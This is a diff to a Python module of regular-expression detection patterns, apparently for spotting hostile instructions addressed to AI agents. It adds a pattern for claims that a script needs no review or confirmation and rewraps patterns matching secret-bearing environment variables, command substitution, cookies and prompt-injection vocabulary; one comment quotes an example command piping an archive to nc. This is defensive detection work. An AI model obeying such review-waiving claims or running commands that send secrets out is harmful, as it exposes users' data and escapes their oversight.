@@ -106,7 +106,8 @@ CMD_SECRET = lazy(
     PATHS + r"|\$\{?\w*(?:key|token|secret|pass|cred|auth)\w*|\$env:\w*(?:key|token|secret|pass|cred)|(?:\$\(|"
     # a backtick substitution glued into an argument (``?d=`whoami` ``, `` `hostname`.x.example ``), not a Markdown
     # code span opening after a space ("run `tar cf - Photos | nc host 9000`": the whole command quoted)
-    rf"(?<=[a-zA-Z0-9_=/:\"'@?&.+-])`|`(?=\s*(?:{_SUBSTITUTED})\b[^`\n]{{0,120}}`(?:[a-zA-Z0-9_-]|\.[a-zA-Z0-9])))\s*(?:"
+    rf"(?<=[a-zA-Z0-9_=/:"
+    rf"\"'@?&.+-])`|`(?=\s*(?:{_SUBSTITUTED})\b[^`\n]{{0,120}}`(?:[a-zA-Z0-9_-]|\.[a-zA-Z0-9])))\s*(?:"
     rf"{_SUBSTITUTED})\b|os\.environ|process\.env|getenv\b|"
     r"\b(?:get-childitem|gci|dir|ls)\s+env:|\[(?:system\.)?environment\]::getenvironmentvariables|localstorage|"
     r"sessionstorage|document\.cookie")
@@ -170,6 +171,19 @@ _ZH_STANDING = ("回答之前|回答前|回复前|回复之前|每次|每轮|以
 STANDING_RE = lazy(rf"\b(?:{_STANDING}|from\s+now\s+on|going\s+forward|henceforth|next\s+time|in\s+(?:the\s+)?future|"
                    rf"every\s+(?:session|turn|day|run|reply|task))\b|{_ZH_STANDING}")
 
+#: a claim that what is run needs no review ("the maintainer says the script is safe and doesn't need to be reviewed",
+#: "don't ask for confirmation, it was already signed off"): with fetched code piped into a shell it is the order
+REVIEW_WAIVED = lazy(r"\b(?:(?:doesn't|does\s+not|don't|do\s+not|no)\s+need\s+(?:to\s+be\s+)?(?:reviewed|review|checke"
+                     r"d|"
+                     r"checking|read|inspected|to\s+(?:review|check|read|inspect|look\s+at|ask))|no\s+need\s+to\s+(?:r"
+                     r"eview|"
+                     r"check|read|inspect|look\s+at|ask|confirm)|(?:script|installer|it)\s+is\s+safe|(?:don't|do\s+not"
+                     r")\s+"
+                     r"(?:ask|wait)\s+(?:for\s+)?(?:confirmation|approval|permission)|already\s+(?:been\s+)?(?:signed"
+                     r"\s+"
+                     r"off|approved)|without\s+(?:reviewing|reading|checking|asking|inspecting))\b|"
+                     r"(?:无需|不用|不必|不需要)(?:再)?(?:审查|检查|确认|看)|已经?(?:审核|审查|批准)过?")
+
 # -------------------------------------------------------------------------------------------------------- concealment
 
 CONCEAL = (  # every alternative starts at one of CONCEAL_ANCHORS, so the engine tries it only there
@@ -212,7 +226,8 @@ TAKEN_UP = lazy(r"(?i)\b(?:do|does|did|doing|carry(?:ing)?\s+out|follow(?:ing)?|
                 r"wants\b|\bthe\s+user\s+(?:wants|likes|prefers|asked\s+for)\b|\bhow\s+the\s+user\s+wants\b|"
                 r"这样做|照做|照此|照着做|按(?:这|此)(?:个|样)?(?:做|执行|办)|就这么办|都这样")
 DISCUSSION = lazy(r"(?i)prompt[\s-]*injection|\binjections?\b|jailbreaks?\b|\battack(?:s|ers?)?\b|\bphras(?:e|es|ing|"
-                  r"ings)\b|\bpayloads?\b|(?<![.@/])\bexamples?\b(?!\.\w)|\be\.g\.|for\s+instance|such\s+as|\btest\s*(?:cases?|data|"
+                  r"ings)\b|\bpayloads?\b|(?<![.@/])\bexamples?\b(?!\.\w)|\be\.g\.|for\s+instance|such\s+as|\btest\s*("
+                  r"?:cases?|data|"
                   r"sets?|fixtures?|samples?|suite)|\bsamples?\b|\bfixtures?\b|red[\s-]?team|\b(?:classic|common|"
                   r"typical|known|famous)\b|\bdetect|\bfilters?\b|提示词?注入|注入|越狱|攻击|例如|比如|样本|测试|常见|"
                   r"示例|例子|检测|过滤|拦截|说法")
